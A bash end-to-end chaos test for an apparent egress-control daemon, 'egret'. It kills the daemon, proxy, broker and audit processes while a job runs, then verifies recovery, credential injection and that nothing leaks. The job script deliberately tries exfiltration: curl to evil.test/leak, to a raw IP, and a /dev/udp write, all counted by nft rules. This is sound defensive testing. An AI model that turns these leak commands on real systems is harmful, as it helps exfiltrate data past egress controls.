#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# timeout: 240
# P6: kill -9 each process while a job runs gives exactly the promised table, nothing leaks meanwhile, and the job is served again.
#
#   egretd   running jobs go on, new ones are refused
#   proxy    that job is refused, then served again
#   broker   leases already out are used
#   audit    every request that went out has its record
#
# Leaks are counted outside egret's code: at the origins, and by nft on the host's side of the cable.
. "$(dirname "$0")/../lib.sh"
[ -z "${EGRET_DIRECT:-}" ] || skip_all "speaks of egret only"
. "$ROOT/tests/e2e/origins.sh"
. "$ROOT/tests/e2e/daemon.sh"
need nft jq
origins_up
token=tok-$(openssl rand -hex 20)
daemon_config
installed chaos '"allow": "GET https://api.test/**", "credential": "key"' '"allow": "GET https://files.test/**"'
printf '{ "name": "key", "provider": "store", "value": "key-token", "for": "any", "tier": "any", "hosts": ["api.test"], "inject": [ { "header": "Authorization", "format": "Bearer {token}" } ] }' \
	>"$TMP/credentials/key.json"
printf %s "$token" | "$EGRET" secret set key-token || fail "the secret is stored"
echo f >"$TMP/www/files.test/f"

# What no rule allows must not leave this namespace, whoever sends it.
in_host nft -f - <<-NFT
	table inet leak {
	  counter forbidden { }
	  counter datagrams { }
	  chain out { type filter hook output priority 0; ip daddr $EVIL counter name "forbidden"; ip daddr 198.51.100.0/24 meta l4proto udp counter name "datagrams"; }
	}
NFT
leaked() { in_host nft -j list counters table inet leak | jq '[.nftables[].counter // empty | .packets] | add'; }
daemon_start || done_testing

# The job: asks all the time, writes down what it got and when, and tries what is forbidden.
cat >"$TMP/loop.sh" <<'SH'
#!/bin/bash
while [ -e "$1/pause" ]; do
	start=$EPOCHREALTIME
	code=$(curl -s --max-time 8 -o /dev/null -w '%{http_code}' "https://api.test/hello.txt?$start")
	echo "${start/./} $code" >>"$1/codes"
	evil=$(curl -sk --max-time 4 -o /dev/null -w '%{http_code}' https://evil.test/leak)
	raw=$(curl -sk --max-time 4 -o /dev/null -w '%{http_code}' https://198.51.100.20/leak)
	(exec 3<>/dev/udp/198.51.100.20/443 && echo x >&3) 2>/dev/null && evil=udp
	echo "$evil $raw" >>"$1/forbidden"
done
SH
chmod 755 "$TMP/loop.sh"
: >"$TMP/pause"
JOB_OPTS=(--label repo=chaos --label event=push)
JOB_TIMEOUT=220 daemon_job "$TMP/loop.sh" "$TMP" >"$TMP/job.out" 2>&1 &
job_pid=$!
since() { awk -v t="$1" '$1 > t { print $2 }' "$TMP/codes"; } # codes of requests begun after a time
served() { wait_for "$2" "since $1 | grep -qx 200"; }
t "the job is served" wait_for 30 "grep -q ' 200' '$TMP/codes'"

kill_one() { # program, what happens after
	local pid
	pid=$(egret_pids "$1" | head -n 1)
	[ -n "$pid" ] || { fail "$1 runs"; return 1; }
	kill -9 "$pid"
	KILLED=${EPOCHREALTIME/./}
}
job_lives() { kill -0 "$job_pid" 2>/dev/null; }

for round in 1 2 3; do
	kill_one egret-proxy || break
	t "proxy killed ($round): the job is served again" served "$KILLED" 20
	unlike "$(since "$KILLED" | sort -u | tr '\n' ' ')" '(^| )([134]..) ' "proxy killed ($round): until then it was only refused"
	t "proxy killed ($round): the job lives" job_lives
done

kill_one egret-broker
sleep 1
is "$(since "$KILLED" | sort -u | tr '\n' ' ')" '200 ' "broker killed: the lease that is out is used"
t "broker killed: it runs again" wait_for 10 "[ -n \"\$(egret_pids egret-broker)\" ]"

# What the proxy needs has died with it, and more than once: neither waits longer for the other than it must.
for round in 1 2 3 4; do
	kill -9 $(egret_pids egret-broker) $(egret_pids egret-proxy)
	KILLED=${EPOCHREALTIME/./}
	t "broker and proxy killed ($round): the job is served again" served "$KILLED" 20
done
at_most $(((${EPOCHREALTIME/./} - KILLED) / 1000)) 4000 "ms, the last time"

kill_one egret-audit
t "audit killed: it runs again" wait_for 10 "[ -n \"\$(egret_pids egret-audit)\" ]"
t "audit killed: the job is served" served "$KILLED" 20
unlike "$(since "$KILLED" | sort -u | tr '\n' ' ')" '(^| )([134]..) ' "audit killed: 200, or 503 until it was back"

daemon_pid=$(egret_pids egretd | head -n 1)
kill -9 "$daemon_pid"
KILLED=${EPOCHREALTIME/./}
t "egretd killed: the running job goes on" served "$KILLED" 10
is "$(since "$KILLED" | sort -u | tr '\n' ' ')" '200 ' "egretd killed: without a refusal"
t "egretd killed: the job lives" job_lives
daemon_start
STARTED=${EPOCHREALTIME/./}
t "egretd again: the job is served" served "$STARTED" 15
like "$("$EGRET" job list 2>&1)" 'j-[0-9a-f]+' "egretd again: it knows the job"
t "egretd again: a new job is served" wait_for 10 "[ \"\$(daemon_job curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://files.test/f 2>/dev/null)\" = 200 ]"
if [ -n "$(egret_pids egret-proxy)" ]; then
	kill_one egret-proxy
	t "and a proxy killed after that is started anew too" served "$KILLED" 20
fi

rm -f "$TMP/pause"
t "the job ends by itself" wait_for 30 "! kill -0 $job_pid"
is "$(cut -d' ' -f1 "$TMP/forbidden" | sort -u | tr '\n' ' ' | sed 's/000 //; s/403 //; s/503 //')" '' "what is forbidden was refused all the time"
is "$(leaked)" 0 "nft counted no packet to a forbidden host and no datagram"
is "$(origin_count 'evil\.test|198\.51\.100\.20')" 0 "the forbidden origin was never asked"
is "$(origin_log | grep -c '^api.test ' | awk '{ print ($1 > 0) }')" 1 "the allowed one was"
sleep 1
records=$(stream | jq -c 'select(.kind=="http.request" and .verdict=="allow" and (.http.url | contains("api.test")))' | wc -l)
asked=$(origin_count '^api\.test ')
is "$((records >= asked))" 1 "no request without a record: $asked at the origin, $records records"
is "$(origin_log | grep '^api.test ' | grep -vc "Bearer $token\$")" 0 "each with the credential"
is "$(grep -rlF "$token" "$TMP/codes" "$TMP/job.out" "$TMP"/state/events*.ndjson "$TMP/egretd.log" "$TMP/run" 2>/dev/null | wc -l)" 0 "which is in no file"
daemon_stop
t "nothing is left" wait_for 5 "[ -z \"\$(ip netns pids '$HOSTNS')\" ]"
done_testing
